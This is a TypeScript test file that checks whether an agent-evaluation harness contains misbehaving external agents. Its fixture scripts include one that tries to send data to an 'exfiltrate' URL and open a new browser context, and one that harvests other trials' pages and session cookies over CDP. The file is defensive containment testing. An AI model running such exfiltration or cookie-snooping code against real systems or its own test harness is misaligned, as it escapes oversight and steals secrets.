/**
 * Agents that bring their own loop (kind command), through the real CLI and real Chromium:
 * the two examples pass; a crashing command, a hanging one (its whole process group ends), one
 * that tries another origin and one that looks for another trial's pages are each stopped or
 * contained by umpire, and say so in the store and the trial log.
 */
import { readFileSync, writeFileSync, mkdirSync, existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { parse, stringify } from "yaml";
import { afterAll, describe, expect, it } from "vitest";
import { REPO_ROOT, runCli } from "../../support/cli.js";
import { events, scratch, trialFolder } from "../security/support.js";
import { readFixtureTask } from "../../support/fixture-tasks.js";
import { DEBIAN_EXTRAS } from "../../../scripts/setup.js";

const PYTHON_WEBSOCKET = DEBIAN_EXTRAS.find((p) => p.name === "python3-websocket")!;
const HAS_PYTHON_WEBSOCKET = PYTHON_WEBSOCKET.present();
const NO_PYTHON_WEBSOCKET = `python3-websocket is not installed (needed by ${PYTHON_WEBSOCKET.for}); run: sudo apt-get install -y python3-websocket, or npm run setup as root`;
if (!HAS_PYTHON_WEBSOCKET)
  process.stderr.write(`external-agents.test: skipping the Python example: ${NO_PYTHON_WEBSOCKET}\n`);

const s = scratch("external");
afterAll(() => s.cleanup());
const PLAYWRIGHT = join(REPO_ROOT, "node_modules/playwright/index.mjs");

function taskWith(limits: Partial<{ seconds: number }>): string {
  const task = parse(readFixtureTask(join(REPO_ROOT, "tasks/scorecard-note-bb042.yaml")));
  delete task.$schema;
  task.limits = { ...task.limits, ...limits };
  const dir = join(s.dir, `tasks-${Object.values(limits).join("-") || "plain"}`);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, `${task.id}.yaml`), stringify(task));
  return dir;
}

/** Writes agent scripts and a config naming them; returns the config path. */
function configWith(name: string, agents: Record<string, string>): string {
  const dir = join(s.dir, name);
  mkdirSync(dir, { recursive: true });
  const section: Record<string, unknown> = {};
  for (const [agent, source] of Object.entries(agents)) {
    writeFileSync(join(dir, `${agent}.mjs`), source);
    section[agent] = { kind: "command", command: [process.execPath, `${agent}.mjs`], env: { SNOOP_DIR: dir } };
  }
  const file = join(dir, "umpire.config.yaml");
  writeFileSync(file, stringify({ agents: section }));
  return file;
}

const CRASH = `process.stderr.write("crash-agent: the model key is missing\\n"); process.exit(3);`;
const HANG = `import { spawn } from "node:child_process";
import { writeFileSync } from "node:fs";
const child = spawn("sleep", ["600"], { stdio: "ignore" });
writeFileSync(process.env.SNOOP_DIR + "/pids-" + process.env.UMPIRE_TRIAL_ID, JSON.stringify([process.pid, child.pid]));
process.on("SIGTERM", () => {}); // ignores the polite signal: only SIGKILL of the group ends it
setInterval(() => {}, 1000);`;
const ORIGIN = `import { chromium } from ${JSON.stringify(PLAYWRIGHT)};
import { writeFileSync } from "node:fs";
const browser = await chromium.connectOverCDP(process.env.UMPIRE_CDP_URL);
const page = browser.contexts().flatMap((c) => c.pages())[0];
let reached = "no";
try { const r = await page.goto("http://127.0.0.1:9/exfiltrate?d=BB-042"); reached = r ? "yes " + r.status() : "yes"; } catch (e) { reached = "no: " + e.message.split("\\n")[0]; }
let context = "made";
try { await (await browser.newBrowserCDPSession()).send("Target.createBrowserContext"); } catch (e) { context = "refused: " + e.message.split("\\n")[0]; }
writeFileSync(process.env.UMPIRE_RESULT_FILE, JSON.stringify({ answer: JSON.stringify({ reached, context }), outcome: "failure" }));
await browser.close();`;
/** Waits until both trials of the run are up, then reports every page and session cookie it can see. */
const SNOOP = `import { chromium } from ${JSON.stringify(PLAYWRIGHT)};
import { readdirSync, writeFileSync } from "node:fs";
writeFileSync(process.env.SNOOP_DIR + "/up-" + process.env.UMPIRE_TRIAL_ID, "");
for (let i = 0; i < 100 && readdirSync(process.env.SNOOP_DIR).filter((f) => f.startsWith("up-")).length < 2; i++) await new Promise((r) => setTimeout(r, 100));
const both = readdirSync(process.env.SNOOP_DIR).filter((f) => f.startsWith("up-")).length >= 2;
const browser = await chromium.connectOverCDP(process.env.UMPIRE_CDP_URL);
const cdp = await browser.newBrowserCDPSession();
const { targetInfos } = await cdp.send("Target.getTargets");
// Every context it can name (the browser's list and each target's), and the cookies of each.
const { browserContextIds } = await cdp.send("Target.getBrowserContexts");
const contexts = new Set([undefined, ...browserContextIds, ...targetInfos.map((t) => t.browserContextId)]);
const cookies = [];
for (const browserContextId of contexts) {
  const { cookies: found } = await cdp.send("Storage.getCookies", browserContextId ? { browserContextId } : {});
  cookies.push(...found.filter((k) => k.name === "umpire_session").map((k) => k.value));
}
writeFileSync(process.env.UMPIRE_RESULT_FILE, JSON.stringify({ answer: JSON.stringify({ both, pages: targetInfos.filter((t) => t.type === "page").length, cookies: [...new Set(cookies)], self: process.env.UMPIRE_TRIAL_ID }) }));
await browser.close();`;

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

describe("external agents (kind command) through the real CLI", () => {
  /** One example agent's trial: passed, its six steps and four clicks and every screen in the trial log. */
  async function solvesWith(agent: string, runId: string): Promise<void> {
    const run = await runCli(
      [
        "run",
        "tasks/scorecard-note-bb042.yaml",
        "--config",
        "examples/external-agents/umpire.config.yaml",
        "--agent",
        agent,
        "--run-id",
        runId,
        "--out",
        s.out,
        "--db",
        s.db,
        "--json",
      ],
      { killAfterMs: 240_000 },
    );
    expect(run.code, run.stderr).toBe(0);
    const trials = JSON.parse(run.stdout).trials as Record<string, any>[];
    expect(trials.map((t) => [t.agentLabel ?? t.agent, t.verdict, t.stopReason])).toEqual([
      [expect.stringMatching(new RegExp(agent)), "passed", "answered"],
    ]);
    for (const trial of trials) {
      const folder = trialFolder(s.out, runId, trial.id ?? trial.trialId);
      const log = events(folder);
      const steps = log.filter(
        (e) => e.type === "AgentEvent" && e.data.origin_agent === "external" && e.data.kind === "policy_event",
      );
      expect(steps.length).toBe(6);
      const clicks = log.filter(
        (e) => e.type === "AgentEvent" && e.data.kind === "tool_result" && e.data.tool_req.tool_name === "click",
      );
      expect(clicks.length).toBe(4);
      // A screenshot after each reported action and a final one, all stored as files.
      const shots = log.filter((e) => e.type === "AgentEvent" && e.data.kind === "observation_event");
      expect(shots.length).toBeGreaterThanOrEqual(13);
      for (const shot of shots) expect(existsSync(join(folder, shot.data.image.source))).toBe(true);
    }
    const show = await runCli(["show", runId, "--turns", "--db", s.db]);
    expect(show.code).toBe(0);
    expect(show.stdout).toContain(agent);
  }

  it("the TypeScript example solves scorecard-note-bb042; its steps and screens are in the trial log", async () => {
    await solvesWith("ts-agent", "ext-ts");
  }, 300_000);

  // The Python example needs Debian's python3-websocket: `npm run setup` installs it as root, else names
  // the command; without it this test is skipped with the same words, never failed for the machine.
  it.skipIf(!HAS_PYTHON_WEBSOCKET)(
    `the Python example solves scorecard-note-bb042${HAS_PYTHON_WEBSOCKET ? "" : ` (skipped: ${NO_PYTHON_WEBSOCKET})`}`,
    async () => {
      await solvesWith("python-agent", "ext-py");
    },
    300_000,
  );

  it("a crashing command and a hanging one: agent_crashed with its stderr, and a timeout that ends the whole process group", async () => {
    const config = configWith("crash-hang", { crasher: CRASH, hanger: HANG });
    const run = await runCli(
      [
        "run",
        taskWith({ seconds: 5 }),
        "--config",
        config,
        "--agent",
        "crasher",
        "--agent",
        "hanger",
        "--no-sandbox",
        "--run-id",
        "ext-bad",
        "--out",
        s.out,
        "--db",
        s.db,
        "--json",
      ],
      {
        killAfterMs: 180_000,
      },
    );
    expect(run.code, run.stderr).toBe(1);
    const trials = JSON.parse(run.stdout).trials as Record<string, any>[];
    const crash = trials.find((t) => JSON.stringify(t).includes("crasher"))!;
    const hang = trials.find((t) => JSON.stringify(t).includes("hanger"))!;
    expect(crash.stopReason).toBe("agent_crashed");
    expect(crash.verdict).toBe("failed");
    expect(JSON.stringify(crash)).toContain("exited with code 3: crash-agent: the model key is missing");
    expect(hang.stopReason).toBe("timeout");
    expect(hang.verdict).toBe("failed");
    const dir = join(s.dir, "crash-hang");
    const pidFiles = readdirSync(dir).filter((f) => f.startsWith("pids-"));
    expect(pidFiles.length).toBe(1);
    const pids = JSON.parse(readFileSync(join(dir, pidFiles[0]!), "utf8")) as number[];
    expect(pids).toHaveLength(2);
    // The command ignored SIGTERM and left a child: neither survives the trial.
    for (const pid of pids) expect(alive(pid)).toBe(false);
  });

  it("a command that tries another origin is blocked by umpire, and may not make a context of its own", async () => {
    const config = configWith("origin", { wanderer: ORIGIN });
    const run = await runCli(
      [
        "run",
        taskWith({}),
        "--config",
        config,
        "--agent",
        "wanderer",
        "--run-id",
        "ext-origin",
        "--out",
        s.out,
        "--db",
        s.db,
        "--json",
      ],
      { killAfterMs: 180_000 },
    );
    const trial = JSON.parse(run.stdout).trials[0];
    const log = events(trialFolder(s.out, "ext-origin", trial.id ?? trial.trialId));
    const blocked = log.filter(
      (e) => e.type === "AgentEvent" && e.data.kind === "error_event" && e.data.origin === "browser_guard",
    );
    expect(blocked.map((e) => e.data.blocked_request.url)).toContain("http://127.0.0.1:9/exfiltrate?d=BB-042");
    const seen = JSON.parse(
      log.find((e) => e.type === "AgentEvent" && e.data.kind === "answer_event" && e.data.origin === "external_agent")!
        .data.answer,
    );
    expect(seen.reached).toMatch(/^no: .*ERR_BLOCKED_BY_CLIENT/);
    expect(seen.context).toMatch(/^refused: .*umpire refused Target.createBrowserContext/);
    expect(
      log.some(
        (e) =>
          e.type === "AgentEvent" && e.data.origin === "cdp_guard" && /Target.createBrowserContext/.test(e.data.error),
      ),
    ).toBe(true);
    expect(trial.verdict).toBe("failed");
  });

  it("two trials at once: each agent's endpoint shows only its own trial's page and session", async () => {
    const config = configWith("snoop", { snoop: SNOOP });
    const run = await runCli(
      [
        "run",
        taskWith({}),
        "--config",
        config,
        "--agent",
        "snoop",
        "--no-sandbox",
        "--repeat",
        "2",
        "--concurrency",
        "2",
        "--run-id",
        "ext-snoop",
        "--out",
        s.out,
        "--db",
        s.db,
        "--json",
      ],
      {
        killAfterMs: 180_000,
      },
    );
    const trials = JSON.parse(run.stdout).trials as Record<string, any>[];
    expect(trials).toHaveLength(2);
    const sessionCookies = new Set<string>();
    for (const trial of trials) {
      const log = events(trialFolder(s.out, "ext-snoop", trial.id ?? trial.trialId));
      const seen = JSON.parse(
        log.find(
          (e) => e.type === "AgentEvent" && e.data.kind === "answer_event" && e.data.origin === "external_agent",
        )!.data.answer,
      );
      // Both trials were running while each looked.
      expect(seen.both).toBe(true);
      expect(seen.pages).toBe(1);
      // One session cookie, its own: a secret, not its (guessable) trial id (#38).
      expect(seen.cookies).toHaveLength(1);
      expect(seen.cookies[0]).not.toBe(seen.self);
      sessionCookies.add(seen.cookies[0]);
      expect(seen.self).toBe(trial.id ?? trial.trialId);
    }
    expect(sessionCookies.size).toBe(2);
  });
});
